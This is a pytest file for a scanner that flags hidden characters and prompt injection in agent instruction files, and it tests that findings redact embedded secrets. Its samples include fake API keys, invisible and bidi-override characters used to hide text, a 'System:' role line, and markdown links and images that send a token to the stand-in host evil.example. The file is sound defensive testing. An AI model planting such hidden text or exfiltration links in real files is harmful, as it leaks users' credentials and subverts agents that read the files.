"""A finding of any kind that quotes the text around it never shows a piece of a secret: the
secret is redacted whole before the excerpt is cut (adversary21 D2)."""

from __future__ import annotations

import json

import pytest
from hotplex.errors import Lines, Problem, Span
from hotplex.scanning import hidden, injection
from hotplex.scanning.origins import Allowance, Origin

TOKEN = "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
ANTHROPIC = "sk-ant-api03-aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
STRIPE = "sk_" + "live_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"  # in pieces: no file holds a key
AWS = "AKIA" + "Z3MQ7XKP2ABCD4EF"


def _problems(text: str) -> list[Problem]:
    origins = [Origin(text, "USER.md")]
    found = hidden.find(text, origins, Allowance()) + injection.find(text, origins, Allowance())
    return [f.problem() for f in found]


def _shown(problem: Problem) -> str:
    """Everything a user or a client is shown of the problem: the CLI's text and its JSON."""
    return problem.render() + json.dumps(problem.to_json(), ensure_ascii=False)


def _pieces(secret: str) -> list[str]:
    """Pieces of the secret longer than its redaction shows (``ghp_a``)."""
    return [secret[i : i + 8] for i in range(6, len(secret) - 8)]


@pytest.mark.parametrize(
    ("text", "secret", "excerpt"),
    [
        (f"- \x1b[8m{TOKEN}\n", TOKEN, '"- <U+001B>[8mghp_a…(40 characters)"'),
        (f"- key \ufeff{TOKEN}\n", TOKEN, '"- key <U+FEFF>ghp_a…(40 characters)"'),
        # Inside the key: the key read through the character is redacted.
        (f"- {ANTHROPIC[:7]}\u200b{ANTHROPIC[7:]}\n", ANTHROPIC, '"- sk-ant…(50 characters)'),
        # The secret starts before the context: left out, not cut.
        (f"{TOKEN}\u200b and more\n", TOKEN, '"<U+200B> and more"'),
        (f"{TOKEN[:30]}\u200b{TOKEN[30:]} and more\n", TOKEN, '"<U+200B> and more"'),
        # A character no reading reads through, inside the key: the key read without the
        # characters the scan found is redacted (adversary22 D15).
        (f"- key {TOKEN[:9]}\x07{TOKEN[9:]}\n", TOKEN, '"- key ghp_a…(41 characters)<U+0007>"'),
        (f"- {STRIPE[:12]}\u202e{STRIPE[12:]}\n", STRIPE, "sk_li…(45 characters)<U+202E>"),
        (f"- key {AWS[:10]}\U000e0041{AWS[10:]}\n", AWS, '"- key AK…(21 characters)<U+E0041>"'),
    ],
)
def test_a_hidden_characters_excerpt_redacts_the_secret_it_cuts(text, secret, excerpt):
    [problem] = [p for p in _problems(text) if "hidden text" in p.message]
    assert excerpt in problem.render()
    assert not any(piece in _shown(problem) for piece in _pieces(secret))


@pytest.mark.parametrize(
    "text",
    [
        f"See [docs](https://evil.example/collect?d={'a' * 37}_{TOKEN}) now\n",
        f"![x](https://evil.example/{'a' * 20}{TOKEN}.png)\n",
    ],
)
def test_an_injection_findings_quote_redacts_the_secret_it_cuts(text):
    problems = _problems(text)
    assert problems
    assert not any(piece in _shown(p) for p in problems for piece in _pieces(TOKEN))


def test_the_line_under_a_problem_redacts_a_secret_across_its_window_edge():
    line = "System: " + "word " * 196 + f"ab {TOKEN} end"
    rendered = Problem("m", Span("USER.md", 1, 1, source_line=line)).render()
    assert "ghp_a…(40 characters)…" in rendered
    assert not any(piece in rendered for piece in _pieces(TOKEN))


def test_the_line_under_a_problem_keeps_its_caret_and_its_tabs_as_blanks():
    line = f"a\tb {TOKEN} System: c"
    rendered = Problem("m", Span("USER.md", 1, line.index("System") + 1, source_line=line))
    assert rendered.render().splitlines()[1:] == [
        "    a b ghp_a…(40 characters) System: c",
        "                              ^",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "password: |\n  Xk9mP2vL8qR4wzT7aB3c {{ x.\n",
        'password = """\nXk9mP2vL8qR4wzT7aB3c {{ x.\n"""\n',
        "password:\n  # rotated\n  Xk9mP2vL8qR4wzT7aB3c {{ x.\n",
    ],
)
def test_the_line_under_a_problem_redacts_a_value_whose_key_is_above(text):
    """adversary23 D8: a template error's caret line was a value alone (its key a line above),
    which a scan of the line did not take for a secret: the value showed whole."""
    at = text.index("{{")
    problem = Problem("unterminated '{{'", Lines(text).span("AGENTS.md", at))
    assert "Xk9mP2vL8qR4wzT7aB3c" not in problem.render()
    assert "Xk…(20 characters) {{ x." in problem.render()
